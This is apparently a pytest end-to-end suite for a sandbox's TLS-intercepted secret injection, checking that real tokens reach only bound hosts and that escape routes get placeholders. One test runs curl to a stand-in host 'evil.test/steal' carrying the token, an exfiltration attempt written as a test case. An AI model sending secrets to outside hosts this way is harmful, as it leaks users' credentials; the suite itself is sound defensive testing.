# SPDX-License-Identifier: Apache-2.0
"""Secrets over TLS (docs/secrets.md): curl in a Debian guest reaches the
secret's host through the interception and the server receives the real
value; every other way out (another host, another server name on the bound
address, an address the sandbox did not resolve for the name, a Host that is
not the server name, plain HTTP, a CONNECT proxy, a rebinding answer, a
downgrade, an upstream whose certificate does not verify) carries the
placeholder or nothing. The fake internet's servers log every request as it
arrived (fakenet.py, fakeweb.py): those logs are the proof."""

import base64
import json
import os
import subprocess
import sys
import urllib.parse

import pytest

from conftest import BUILD, ROOT, files_holding, unique
from fakenet import internet, tls_internet  # noqa: F401

sys.path.insert(0, os.path.join(ROOT, "tests", "images"))

VALUE = "sk-tls-" + os.urandom(12).hex()
OTHER_VALUE = "gh-tls-" + os.urandom(12).hex()
# AUTH's value: bound to api.test with no --secret-inject (the
# Authorization header only); with '/' and '+' so its encodings differ
AUTH_VALUE = "au/th+" + os.urandom(12).hex()
SSN = "123-45-6789"


@pytest.fixture(scope="module")
def debian_image(msb, tmp_path_factory):
    """tests/images/debian.py's python3 + curl image, loaded (no registry)."""
    import build
    import debian
    try:
        im = debian.image()
    except debian.Unavailable as e:
        pytest.skip(f"Debian packages for the curl image unavailable: {e}")
    d = str(tmp_path_factory.mktemp("debian-layout"))
    build.write_layout(im, d, "debian-curl:1")
    msb("load", "-q", "-t", "debian-curl:1", d, check=0)
    return "debian-curl:1"


def boot(msb, image, net, *flags, env=None):
    name = unique("tls")
    msb("run", image, "--name", name, "-d", "--dns-nameserver",
        "198.51.100.2", "--tls-upstream-ca", net.ca,
        "-v", f"{net.dir}:/fake:ro", *flags, check=0,
        env=dict(env or {}, MSB_TLS_TOKEN=VALUE, MSB_TLS_OTHER=OTHER_VALUE,
                 MSB_TLS_AUTH=AUTH_VALUE))
    return name


@pytest.fixture(scope="module")
def sb(msb, debian_image, tls_internet):
    """TOKEN for api.test and below it, allowed in the query, the path,
    the body and X-Custom besides Authorization; AUTH for api.test in
    Authorization only (the default); OTHER for evil.test, which is
    bypassed; old.test and badcert.test bound too, so they are
    intercepted."""
    name = boot(msb, debian_image, tls_internet,
                "--secret-env",
                "TOKEN=@env:MSB_TLS_TOKEN:api.test,*.api.test,old.test,"
                "badcert.test",
                "--secret-inject", "TOKEN=query,path,body,header:X-Custom",
                "--secret-env", "AUTH=@env:MSB_TLS_AUTH:api.test",
                "--secret-env", "OTHER=@env:MSB_TLS_OTHER:evil.test",
                "--tls-bypass", "evil.test")
    yield name
    msb("rm", "-f", name)


def sh_in(msb, name, script):
    p = msb("exec", name, "--", "sh", "-c", script, timeout=120)
    return p.returncode, p.stdout.decode(), p.stderr.decode()


class Logs:
    """What each server logged during a block of a test."""

    def __init__(self, net):
        self.net = net
        self.at = {k: len(net.log(k)) for k in net.logs}

    def new(self, server):
        return self.net.log(server)[self.at[server]:]

    def everything(self):
        return b"".join(self.new(k) for k in self.net.logs)


def no_value_anywhere(logs):
    out = logs.everything()
    assert VALUE.encode() not in out and OTHER_VALUE.encode() not in out
    assert AUTH_VALUE.encode() not in out


def no_value_in_the_log(msb, name):
    log = msb.out("logs", name)
    for value in (VALUE, AUTH_VALUE, OTHER_VALUE):
        assert value not in log


def placeholder(msb, name, var="TOKEN"):
    return msb.out("exec", name, "--", "sh", "-c", f'echo "${var}"').strip()


def test_curl_to_the_bound_host_sends_the_value(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    ph = placeholder(msb, sb)
    rc, out, err = sh_in(msb, sb,
                         'curl -sS -f "https://api.test/h?key=$TOKEN" '
                         '-H "Authorization: Bearer $TOKEN" '
                         '-H "X-Custom: $TOKEN" '
                         '--data-binary "token=$TOKEN&x=1" && '
                         'curl -sS -f -u "user:$TOKEN" https://api.test/basic '
                         '&& curl -sS -f "https://api.test/v/$TOKEN/x"')
    assert rc == 0, err
    got = logs.new("api")
    basic = base64.b64encode(f"user:{VALUE}".encode())
    assert f"key={VALUE}".encode() in got, got
    assert f"Bearer {VALUE}".encode() in got, got
    assert f"X-Custom: {VALUE}".encode() in got, got
    assert f"token={VALUE}&x=1".encode() in got, got
    assert b"GET /basic" in got and basic in got, got
    assert f"GET /v/{VALUE}/x".encode() in got, got
    assert ph.encode() not in got, got
    # The guest verified a certificate from the home's CA, by default
    # (curl trusts CURL_CA_BUNDLE, which the agent set).
    rc, out, err = sh_in(msb, sb, "curl -sS -v -o /dev/null "
                         "https://api.test/ 2>&1 | grep -i issuer")
    assert "O=microsandbox" in out, out


def test_value_over_ipv6_and_below_a_wildcard(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -6 -sS -f https://v6.api.test/six '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc == 0, err
    got = logs.new("api")
    assert b"GET /six" in got and f"Bearer {VALUE}".encode() in got, got


def test_another_host_gets_only_the_placeholder(msb, sb, tls_internet):
    """evil.test is bypassed: the guest talks to it itself (trusting the
    fake internet's CA from the volume) and it gets the placeholder."""
    logs = Logs(tls_internet)
    ph = placeholder(msb, sb)
    rc, out, err = sh_in(msb, sb, 'curl -sS -f --cacert /fake/ca.pem '
                         'https://evil.test/steal '
                         '-H "Authorization: Bearer $TOKEN" '
                         '-H "X-Other: $OTHER"')
    assert rc == 0, err
    got = logs.new("evil")
    assert b"GET /steal" in got and ph.encode() in got, got
    no_value_anywhere(logs)


def test_another_server_name_on_the_bound_address(msb, sb, tls_internet):
    """The bound host's own address under a name no secret is bound to:
    not intercepted, so the server gets the placeholder."""
    logs = Logs(tls_internet)
    ph = placeholder(msb, sb)
    rc, out, err = sh_in(msb, sb, 'curl -sS -k --resolve '
                         'unbound.test:443:198.51.100.4 '
                         'https://unbound.test/sni '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc == 0, err
    got = logs.new("api")
    assert b"sni unbound.test" in got and ph.encode() in got, got
    no_value_anywhere(logs)


def test_an_address_not_resolved_for_the_name_gets_nothing(msb, sb,
                                                           tls_internet):
    """x.api.test was never asked of the sandbox's resolver: the address
    is not bound to the name, so no value, though the certificate is
    good."""
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS --resolve '
                         'never-asked.api.test:443:198.51.100.4 '
                         'https://never-asked.api.test/bind '
                         '-H "Authorization: Bearer $TOKEN"')
    assert "403" in out or "refused" in out, (rc, out, err)
    assert b"/bind" not in logs.new("api")
    no_value_anywhere(logs)
    assert "the address was not resolved by the sandbox" in \
        msb.out("logs", sb)


def test_host_header_other_than_the_server_name(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS https://api.test/host '
                         '-H "Host: evil.test" '
                         '-H "Authorization: Bearer $TOKEN"')
    assert "msb: refused" in out, (rc, out, err)
    assert b"/host" not in logs.new("api")
    no_value_anywhere(logs)


def test_plain_http_to_the_bound_host(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS http://api.test/plain '
                         '-H "Authorization: Bearer $TOKEN"')
    assert "msb: refused" in out, (rc, out, err)
    assert b"/plain" not in logs.new("api_http")
    no_value_anywhere(logs)


def test_connect_proxy(msb, sb, tls_internet):
    """Through a CONNECT proxy the TLS inside the tunnel is the guest's
    own with the server (not intercepted): the placeholder arrives, the
    value never; a placeholder for the proxy itself is refused."""
    logs = Logs(tls_internet)
    ph = placeholder(msb, sb)
    rc, out, err = sh_in(msb, sb, 'curl -sS -f --cacert /fake/ca.pem '
                         '-x http://proxy.test:3128 https://api.test/proxied '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc == 0, err
    assert b"CONNECT api.test:443" in logs.new("proxy")
    got = logs.new("api")
    assert b"/proxied" in got and ph.encode() in got, got
    rc, out, err = sh_in(msb, sb, 'curl -sS -x http://proxy.test:3128 '
                         '--proxy-user "me:$TOKEN" https://api.test/p2')
    assert rc != 0, (out, err)
    assert b"/p2" not in logs.new("api")
    no_value_anywhere(logs)


def test_rebinding_answer_is_dropped(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS https://rebind.test/ '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc == 6, (rc, out, err)  # could not resolve
    # nor may the guest name a private address itself
    rc, out, err = sh_in(msb, sb, 'curl -sS -m 10 --resolve '
                         'api.test:443:10.1.2.4 https://api.test/ '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc != 0, (rc, out, err)
    no_value_anywhere(logs)


def test_upstream_certificate_that_does_not_verify(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS https://badcert.test/ '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc == 35, (rc, out, err)  # the handshake was refused
    assert b"GET" not in logs.new("badcert")
    no_value_anywhere(logs)
    log = msb.out("logs", sb)
    assert "(server name badcert.test): refused, the server failed: its " \
           "certificate does not verify" in log, log


def test_upstream_below_tls12_is_refused(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS https://old.test/ '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc == 35, (rc, out, err)
    assert b"GET" not in logs.new("old")
    no_value_anywhere(logs)
    assert "(server name old.test): refused, the server failed" in \
        msb.out("logs", sb)


def test_guest_below_tls12_is_refused(msb, sb, tls_internet):
    """A guest offering TLS 1.1 at most to an intercepted name."""
    logs = Logs(tls_internet)
    script = ("import ssl, socket\n"
              "c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n"
              "c.check_hostname = False\n"
              "c.verify_mode = ssl.CERT_NONE\n"
              "c.set_ciphers('DEFAULT:@SECLEVEL=0')\n"
              "c.minimum_version = ssl.TLSVersion.TLSv1\n"
              "c.maximum_version = ssl.TLSVersion.TLSv1_1\n"
              "s = socket.create_connection(('api.test', 443))\n"
              "try:\n"
              "    c.wrap_socket(s, server_hostname='api.test')\n"
              "    print('handshake done')\n"
              "except ssl.SSLError as e:\n"
              "    print('refused', e.reason)\n")
    out = msb.out("exec", sb, "--", "python3", "-c", script)
    assert out.startswith("refused"), out
    no_value_anywhere(logs)
    assert "(server name api.test): the guest's handshake failed" in \
        msb.out("logs", sb)


def encodings(value):
    """What a server could send a value back as: itself, percent- and
    JSON-encoded, and in base64 at each of its 3 alignments (the part of
    the encoding that depends on the value alone)."""
    v = value.encode()
    out = {v, urllib.parse.quote(value, safe="").encode(),
           json.dumps(value)[1:-1].encode()}
    for lead in range(3):
        b = base64.b64encode(b"x" * lead + v)
        skip = (lead * 4 + 2) // 3 + 1
        out.add(b[skip:skip + 16])
    return out


def reflected(text):
    """The encodings of any value that @text (bytes) holds."""
    return [e for value in (VALUE, AUTH_VALUE, OTHER_VALUE)
            for e in encodings(value) if e in text]


def test_an_echo_returns_the_placeholder_never_the_value(msb, sb,
                                                         tls_internet):
    """api.test/echo reflects the request (line, headers, body) in the
    response's head and body: the value went to the server, and the
    guest gets its placeholder back, whatever the framing (a length,
    chunks of 5 or 1 bytes that cut the value, until close, HEAD), in
    Basic credentials, in a header of the response and base64-encoded."""
    logs = Logs(tls_internet)
    ph, aph = placeholder(msb, sb), placeholder(msb, sb, "AUTH")
    rc, out, err = sh_in(
        msb, sb,
        'for q in "" chunk=5 chunk=1 close=1 b64=1; do '
        'curl -sS -f -i "https://api.test/echo?$q&k=$TOKEN" '
        '-H "Authorization: Bearer $TOKEN" -H "X-Custom: $TOKEN"; done; '
        'curl -sS -f -i -X POST --data-binary "t=$TOKEN" '
        '"https://api.test/echo?chunk=3" -H "Authorization: Bearer $AUTH"; '
        'curl -sS -f -I "https://api.test/echo?k=$TOKEN"; '
        'curl -sS -f -u "user:$AUTH" "https://api.test/echo?b64=1"; '
        'curl -sS -f -u "me:$TOKEN" "https://api.test/echo?close=1"')
    assert rc == 0, err
    sent = logs.new("api")
    # the values did go...
    assert f"k={VALUE}".encode() in sent, sent
    assert f"Bearer {AUTH_VALUE}".encode() in sent, sent
    assert base64.b64encode(f"user:{AUTH_VALUE}".encode()) in sent, sent
    # ...and only the placeholders came back
    got = out.encode()
    assert not reflected(got), (reflected(got), out)
    assert out.count(f"Bearer {ph}") == 5, out
    assert out.count(f"X-Echo-Target: /echo?") >= 7, out
    assert f"k={ph}" in out and f"t={ph}" in out, out
    assert f"Bearer {aph}" in out, out
    assert base64.b64encode(f"user:{aph}".encode()).decode() in out, out
    assert base64.b64encode(f"me:{ph}".encode()).decode() in out, out
    for line in out.splitlines():
        if line.startswith("b64: "):
            head = base64.b64decode(line[5:])
            assert not reflected(head), head
    no_value_in_the_log(msb, sb)


# A WebSocket client in the guest: the handshake (offering compression),
# then each frame the server sends printed as "OPCODE LENGTH PAYLOAD"; after
# the second it sends "ping?" and reads the answer and the close. A read
# that waits 20 s fails it.
WS_CLIENT = r"""
import base64, os, socket, ssl
s = ssl.create_default_context().wrap_socket(
    socket.create_connection(("api.test", 443), timeout=20),
    server_hostname="api.test")
s.sendall(("GET /ws HTTP/1.1\r\nHost: api.test\r\nUpgrade: websocket\r\n"
           "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
           "Sec-WebSocket-Key: %s\r\n"
           "Sec-WebSocket-Extensions: permessage-deflate\r\n"
           "Authorization: Bearer %s\r\n\r\n"
           % (base64.b64encode(os.urandom(16)).decode(),
              os.environ["TOKEN"])).encode())
buf = b""
while b"\r\n\r\n" not in buf:
    buf += s.recv(4096)
head, buf = buf.split(b"\r\n\r\n", 1)
print(head.split(b"\r\n")[0].decode())
def need(n):
    global buf
    while len(buf) < n:
        d = s.recv(65536)
        if not d:
            raise SystemExit("closed early")
        buf += d
def frame():
    global buf
    need(2)
    b0, n, at = buf[0], buf[1] & 0x7f, 2
    if n >= 126:
        at = 4 if n == 126 else 10
        need(at)
        n = int.from_bytes(buf[2:at], "big")
    need(at + n)
    p, buf = buf[at:at + n], buf[at + n:]
    print("%x %d %s" % (b0, n, p.decode(errors="replace")), flush=True)
for _ in range(2):
    frame()
m = os.urandom(4)
s.sendall(bytes([0x81, 0x85]) + m +
          bytes(c ^ m[i % 4] for i, c in enumerate(b"ping?")))
frame()
frame()
"""


def test_a_websocket_gets_each_frame_scrubbed_and_never_waits(
        msb, sb, tls_internet):
    """api.test/ws sends the Authorization token back in a WebSocket
    message, then a message ending in the token's first byte, and waits
    for the guest: the guest reads the placeholder in a frame of the
    right length, then the second message whole at once (scrubbed as
    bytes, that byte was held for the rest of a value that never came,
    and the guest and the server waited on each other), and the rest of
    the exchange. The guest's offer of compression was not passed on."""
    logs = Logs(tls_internet)
    ph = placeholder(msb, sb)
    p = msb("exec", sb, "--", "python3", "-c", WS_CLIENT, timeout=120)
    out = p.stdout.decode()
    assert p.returncode == 0, (out, p.stderr.decode())
    lines = out.splitlines()
    assert lines[0].startswith("HTTP/1.1 101"), out
    assert lines[1] == f"81 {4 + len(ph)} key {ph}", out
    assert lines[2] == f"81 19 then waits, after {VALUE[0]}", out
    assert lines[3] == "81 9 got ping?", out
    assert lines[4].startswith("88 5 "), out
    sent = logs.new("api")
    assert f"Bearer {VALUE}".encode() in sent, sent
    assert b"permessage-deflate" not in sent, sent
    assert not reflected(out.encode()), out


def test_a_header_only_secret_stays_out_of_query_path_and_body(
        msb, sb, tls_internet):
    """AUTH names no place: its value goes in Authorization, and its
    placeholder anywhere else in a request to its own host is refused
    (--on-secret-violation block) before anything leaves."""
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS -f https://api.test/ok '
                         '-H "Authorization: Bearer $AUTH"')
    assert rc == 0, err
    assert f"Bearer {AUTH_VALUE}".encode() in logs.new("api")
    for where, cmd in (
            ("the query", '"https://api.test/q1?k=$AUTH"'),
            ("the path", '"https://api.test/q2/$AUTH"'),
            ("the body", '--data "k=$AUTH" https://api.test/q3'),
            ("header X-Api-Key",
             '-H "X-Api-Key: $AUTH" https://api.test/q4'),
    ):
        rc, out, err = sh_in(msb, sb, f"curl -sS {cmd}")
        assert "msb: refused" in out, (where, rc, out, err)
        log = msb.out("logs", sb)
        assert (f"secret AUTH: request to 198.51.100.4:443 (Host 'api.test'"
                f", server name 'api.test') blocked: its placeholder is in "
                f"{where}") in log, (where, log[-2000:])
    got = logs.new("api")
    for path in (b"/q1", b"/q2", b"/q3", b"/q4"):
        assert path not in got, got
    no_value_in_the_log(msb, sb)


def test_compressed_answers_where_a_value_may_go(msb, sb, tls_internet):
    """A request on which a value may go asks for an uncompressed answer
    (the guest's Accept-Encoding is replaced); a server that compresses
    anyway is answered 502 (a compressed body cannot be scrubbed)."""
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS -f --compressed '
                         '-H "Authorization: Bearer $TOKEN" '
                         'https://api.test/echo')
    assert rc == 0, err
    assert "Accept-Encoding: identity" in out, out
    assert b"Accept-Encoding: identity" in logs.new("api")
    rc, out, err = sh_in(msb, sb, 'curl -sS -i --compressed '
                         '-H "Authorization: Bearer $TOKEN" '
                         '"https://api.test/echo?gzip=1"')
    assert out.startswith("HTTP/1.1 502"), (rc, out, err)
    assert VALUE not in out
    assert "compressed (Content-Encoding gzip)" in msb.out("logs", sb)


def test_inspect_shows_where_each_value_may_go(msb, sb):
    secrets = {s["env"]: s for s in
               json.loads(msb.out("inspect", sb))["config"]["secrets"]}
    assert secrets["TOKEN"]["inject"] == [
        "authorization", "header:x-custom", "path", "query", "body"]
    assert secrets["AUTH"]["inject"] == ["authorization"]


def test_nothing_under_msb_home_holds_a_value(msb, sb):
    sh_in(msb, sb, "sync")
    assert files_holding(msb.home, VALUE, OTHER_VALUE, AUTH_VALUE) == []


# ---- on_http over intercepted TLS: the seeds' DLP example -----------------

@pytest.fixture(scope="module")
def dlp(msb, debian_image, tls_internet):
    name = boot(msb, debian_image, tls_internet, "--net-plugin",
                os.path.join(BUILD, "examples", "dlp_plugin.so"))
    yield name
    msb("rm", "-f", name)


def test_dlp_hook_sees_https_requests(msb, dlp, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, dlp, 'curl -sS https://api.test/dlp1 '
                         f'--data "name=ann&ssn={SSN}"')
    assert "msb: refused: DLP: PII detected" in out, (rc, out, err)
    rc, out, err = sh_in(msb, dlp, 'curl -sS -f https://api.test/dlp2 '
                         '--data "order=12345"')
    assert rc == 0, err
    got = logs.new("api")
    assert b"/dlp1" not in got and b"POST /dlp2" in got, got
    assert SSN.encode() not in logs.everything()
    assert ("on_http: request to 198.51.100.4:443 (Host 'api.test') "
            "blocked: DLP: PII detected") in msb.out("logs", dlp)


def test_dlp_hook_redacts_https_answers(msb, dlp, tls_internet):
    """The C plugin's on_http_response: a number in the answer (the
    echo quotes a header of the request) is redacted before the guest
    reads it; an answer without one is untouched."""
    rc, out, err = sh_in(msb, dlp, 'curl -sS -f https://api.test/echo '
                         f'-H "X-Note: ssn {SSN} here"')
    assert rc == 0, err
    assert SSN not in out and "[redacted]" in out, out
    rc, out, err = sh_in(msb, dlp, 'curl -sS -f https://api.test/echo '
                         '-H "X-Note: order 12345"')
    assert rc == 0 and "X-Note: order 12345" in out, (out, err)


# ---- an http_response hook: it sees answers scrubbed, never a value -------

@pytest.fixture(scope="module")
def resp(msb, debian_image, tls_internet, tmp_path_factory):
    log = str(tmp_path_factory.mktemp("resp") / "resp.jsonl")
    name = boot(msb, debian_image, tls_internet,
                "--secret-env", "TOKEN=@env:MSB_TLS_TOKEN:api.test",
                "--secret-inject", "TOKEN=query,body",
                "--plugin-process",
                f"python3 {ROOT}/tests/e2e/plugins/resplog.py",
                env={"MSB_PY_SDK": os.path.join(ROOT, "sdk", "python", "src"),
                     "LOG": log})
    yield name, log
    msb("rm", "-f", name)


def test_response_hook_sees_the_scrubbed_answer(msb, resp, tls_internet):
    """api.test/echo sends the value back (by length, chunked, until
    close): the hook is shown each answer whole with the placeholder in
    its place, its header reaches the guest, and an answer it blocks
    never does."""
    name, log = resp
    logs = Logs(tls_internet)
    ph = placeholder(msb, name)
    rc, out, err = sh_in(
        msb, name,
        'for q in "" chunk=5 close=1; do '
        'curl -sS -f -i "https://api.test/echo?$q&mark=1&k=$TOKEN"; done; '
        'curl -sS -i --data "x=forbidden-answer&t=$TOKEN" '
        'https://api.test/echo')
    assert f"k={VALUE}".encode() in logs.new("api")  # the value went
    with open(log) as f:
        seen = [json.loads(x) for x in f if x.strip()]
    assert len(seen) == 4, seen
    for e in seen:
        assert not reflected(json.dumps(e).encode()), e
        assert e["tls"] is True and e["host"] == "api.test"
        assert e["status"] == 200 and e["streamed"] is None
    for e in seen[:3]:
        assert e["request"].startswith("GET /echo?") and ph in e["request"]
        assert f"X-Echo-Target: /echo?" in e["head"] and ph in e["head"]
        assert f"k={ph}" in e["body"], e
    # chunked and until-close bodies were shown whole, decoded
    assert "Transfer-Encoding: chunked" in seen[1]["head"]
    assert seen[1]["body"] == seen[0]["body"].replace("?&", "?chunk=5&")
    assert out.count("X-Resp-Hook: 1") == 3, out
    assert "msb: refused: plugin resplog: an answer it may not have" in out
    assert "forbidden-answer" not in out
    assert not reflected(out.encode())
    no_value_in_the_log(msb, name)


def test_upload_over_8_mib_to_the_bound_host(msb, sb, tls_internet):
    """10 MiB bodies, with a length and chunked, are streamed, not held:
    the header still gets the value, the body arrives byte for byte."""
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'head -c 10485760 /dev/urandom > /tmp/big '
                         '&& sha256sum /tmp/big | cut -d" " -f1 && '
                         'curl -sS -f -T /tmp/big https://api.test/big '
                         '-H "Authorization: Bearer $TOKEN" && '
                         # from a pipe: chunked
                         'cat /tmp/big | curl -sS -f -T - '
                         'https://api.test/chunked '
                         '-H "Authorization: Bearer $TOKEN"; rm -f /tmp/big')
    assert rc == 0, err
    want, got, got_chunked = out.split()
    assert want == got == got_chunked, out
    log = logs.new("api")
    assert b"PUT /big" in log and f"Bearer {VALUE}".encode() in log
    assert b"PUT /chunked" in log and b"Transfer-Encoding: chunked" in log
